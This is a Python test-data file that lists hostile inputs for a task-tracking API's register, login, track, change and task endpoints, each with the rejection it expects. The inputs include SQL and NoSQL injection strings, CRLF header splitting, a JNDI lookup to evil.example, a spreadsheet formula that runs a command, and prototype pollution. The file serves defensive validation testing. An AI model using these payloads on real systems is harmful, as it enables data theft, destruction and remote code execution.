"""Statements, commands and line ends in every member that has a form of its own. Text may hold them, and stays text."""
from hostile.row import Row

PAYLOADS = {
    "SQL": "' OR '1'='1", "SQL that drops": "'; DROP TABLE tasks; --", "a union": "' UNION SELECT password_hash FROM users --", "CQL": "'; TRUNCATE taskflow.interactions; --",
    "a header": "x\r\nSet-Cookie: taskflow_session=hostile", "an answer": "x\r\n\r\nHTTP/1.1 200 OK\r\n\r\nhostile",
}
UUID = "00000000-0000-4000-8000-000000000000"
NOT_UUIDS = {
    "no id": "", "a number": "1", "a list": f"{UUID},{UUID}", "a star": "*", "braces": "{" + UUID + "}", "a urn": f"urn:uuid:{UUID}", "no hyphens": UUID.replace("-", ""),
    "a letter too far": UUID[:-1] + "g", "a blank before": " " + UUID, "a line end after": UUID + "\n", "a NUL after": UUID + "\u0000", "wide digits": "\uff10" + UUID[1:],
}
NOT_EMAILS = {
    "two at signs": "a@b@example.com", "no at sign": "example.com", "no local part": "@example.com", "no domain": "a@", "a blank": "a b@example.com",
    "a line end": "a@example.com\nBcc: b@example.com", "a CR": "a@example.com\rX", "a NUL": "a@example.com\u0000.evil.example", "a comma": "a@example.com,b@example.com",
    "a bracket": "a@[127.0.0.1", "two dots": "a@example..com", "a dot before": "a@.example.com", "a hyphen before": "a@-example.com",
    "an underscore": "a@exam_ple.com", "a Greek letter": "\u03b1@example.com", "a look-alike": "ad\u0430@example.com", "a wide at sign": "a\uff20example.com",
    "a right-to-left mark": "a\u202e@example.com", "a zero-width blank": "a\u200b@example.com", "a tab": "a\t@example.com", "a backslash": "a\\@example.com",
}
NOT_PATHS = {
    "no slash": "tasks", "another site": "https://evil.example/", "a line end": "/a\nb", "a CR LF": "/a\r\nX: y", "a NUL": "/a\u0000b", "an escape": "/\u001b[2J",
    "nothing": "", "a delete": "/\u007f", "a script": "javascript:alert(1)",
}
NOT_TIMES = {"words": "yesterday", "a number": "1754000000000", "no zone": "2026-01-01T00:00:00.000", "month 13": "2026-13-01T00:00:00.000Z", "day 32": "2026-01-32T00:00:00.000Z",
             "a year of 5 digits": "12026-01-01T00:00:00.000Z", "SQL": "2026-01-01'--", "a year below zero": "-2026-01-01T00:00:00.000Z", "nothing": ""}


def change(**more):
    return {"sentAt": "$TIME", "changes": [{"id": "$NEW", "op": "create", "task": "$NEW", "title": "one"} | more]}


def track(**more):
    return {"action": "view", "what": "/"} | more


ROWS = [
    *[Row(f"{name} as an email", "POST /api/register", "422 invalid email", {"email": text, "password": "a quiet river"}) for name, text in PAYLOADS.items()],
    *[Row(f"{name} in an email", "POST /api/register", "422 invalid email", {"email": text, "password": "a quiet river"}) for name, text in NOT_EMAILS.items()],
    *[Row(f"{name} as who signs in", "POST /api/login", "401 wrong_sign_in", {"email": text, "password": text}) for name, text in PAYLOADS.items()],
    *[Row(f"{name} as an event's action", "POST /api/track", "422 invalid action", track(action=text)) for name, text in PAYLOADS.items()],
    *[Row(f"{name} as a viewed path", "POST /api/track", "422 invalid what", track(what=text)) for name, text in (PAYLOADS | NOT_PATHS).items()],
    *[Row(f"{name} as an event's id", "POST /api/track", "422 invalid id", track(id=text)) for name, text in (PAYLOADS | NOT_UUIDS).items()],
    *[Row(f"{name} as an event's time", "POST /api/track", "422 invalid at", track(at=text)) for name, text in NOT_TIMES.items()],
    *[Row(f"{name} as a change's op", "POST /api/changes", "200 [422 invalid op]", change(op=text)) for name, text in PAYLOADS.items()],
    *[Row(f"{name} as a change's task", "POST /api/changes", "200 [422 invalid task]", change(task=text)) for name, text in NOT_UUIDS.items()],
    *[Row(f"{name} as a change's place", "POST /api/changes", "200 [422 invalid before]", change(before=text)) for name, text in NOT_UUIDS.items()],
    *[Row(f"{name} as a change's time", "POST /api/changes", "200 [422 invalid at]", change(at=text)) for name, text in NOT_TIMES.items()],
    *[Row(f"{name} as a sending time", "POST /api/changes", "422 invalid sentAt", change() | {"sentAt": text}) for name, text in NOT_TIMES.items()],
    *[Row(f"{name} as a title", "POST /api/tasks", "201", {"title": text}) for name, text in PAYLOADS.items() if "\r" not in text],
    *[Row(f"{name} in a title", "POST /api/tasks", "422 invalid title", {"title": text}) for name, text in {
        "a header": PAYLOADS["a header"], "an answer": PAYLOADS["an answer"], "a NUL": "a\u0000b", "an escape": "\u001b[31mred", "a line end": "a\nb", "a delete": "a\u007f",
        "nothing": "", "blanks alone": " \t ", "a bell": "a\u0007"}.items()],
    *[Row(f"{name} as a task's id", f"PATCH /api/tasks/{text}", "400|404 not_found", {"completed": True}) for name, text in {
        "SQL": "1%27%20OR%20%271%27=%271", "a union": "%27%20UNION%20SELECT%201--", "a star": "*", "a list": f"{UUID},{UUID}", "a NUL": f"{UUID}%00", "a line end": f"{UUID}%0a",
        "a slash": f"{UUID}%2f", "a number": "1", "a negative number": "-1", "a wide digit": "%EF%BC%90" + UUID[1:]}.items()],
    Row("a formula in a title", "POST /api/tasks", "201", {"title": "=cmd|' /C calc'!A0"}),
    Row("a look-up in a title", "POST /api/tasks", "201", {"title": "${jndi:ldap://evil.example/a}"}),
    Row("a format in a title", "POST /api/tasks", "201", {"title": "%s%n%x{}{0}{:n}"}),
    Row("a look-up as a browser", "GET /api/session", "200", headers={"User-Agent": "${jndi:ldap://evil.example/a}"}),
    Row("a prototype in a task", "POST /api/tasks", "422 invalid title", '{"__proto__":{"title":"x"},"constructor":{"prototype":{"title":"x"}}}'),
    Row("a query as a password", "POST /api/login", "401 wrong_sign_in|422 invalid password", {"email": "$ADA_EMAIL", "password": {"$ne": ""}}),
    Row("a query as an email", "POST /api/login", "401 wrong_sign_in|422 invalid email", {"email": {"$gt": ""}, "password": "a quiet river"}),
    Row("a query as a title", "POST /api/tasks", "422 invalid title", {"title": {"$where": "sleep(1000)"}}),
]
